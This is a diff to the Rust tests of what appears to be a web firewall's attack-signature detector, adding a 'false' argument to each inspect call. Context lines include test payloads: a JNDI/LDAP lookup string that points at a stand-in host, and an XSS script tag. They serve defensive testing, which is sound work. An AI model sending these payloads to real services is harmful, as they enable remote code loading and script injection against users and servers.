@@ -65,7 +65,7 @@ fn signatures(settings: &AttackSignaturesSettings) -> AttackSignatures {
 
 fn rules_at(signatures: &AttackSignatures, path: &str) -> Vec<String> {
     match Exchange::get(path)
-        .inspect(|inspection| signatures.inspect(inspection))
+        .inspect(|inspection| signatures.inspect(inspection, false))
         .map(|finding| finding.reason)
     {
         Some(Reason::AttackSignatures { hits, .. }) => hits.iter().map(|hit| hit.rule.to_string()).collect(),
@@ -152,7 +152,7 @@ fn a_verdict_lists_every_rule_with_field_and_matched_part() {
     let finding = Exchange::get("/")
         .header("x-test", "${jndi:ldap://x.example/a}")
         .header("cookie", "a=1; b=<script>alert(1)</script>")
-        .inspect(|inspection| signatures(&AttackSignaturesSettings::default()).inspect(inspection))
+        .inspect(|inspection| signatures(&AttackSignaturesSettings::default()).inspect(inspection, false))
         .unwrap();
     let Reason::AttackSignatures { score, hits } = &finding.reason else { panic!("{:?}", finding.reason) };
     assert_eq!(*score, hits.iter().map(|hit| hit.severity.score()).sum::<u32>());
@@ -233,7 +233,7 @@ fn names_of_json_within_one_another_are_judged_together() {
     let is_denied = |body: &str| {
         Exchange::post("/api").header("content-type", "application/json").inspect(|inspection| {
             let request = inspection.request.with_body(body.as_bytes());
-            signatures.inspect(&Inspection { request: &request, ..*inspection }).is_some()
+            signatures.inspect(&Inspection { request: &request, ..*inspection }, false).is_some()
         })
     };
     for attack in [
@@ -266,7 +266,7 @@ fn tags_in_capitals_are_found() {
         let finding =
             Exchange::post("/api").header("content-type", "application/json").inspect(|inspection| {
                 let request = inspection.request.with_body(body.as_bytes());
-                signatures.inspect(&Inspection { request: &request, ..*inspection })
+                signatures.inspect(&Inspection { request: &request, ..*inspection }, false)
             });
         assert!(finding.is_some(), "{tag}");
     }
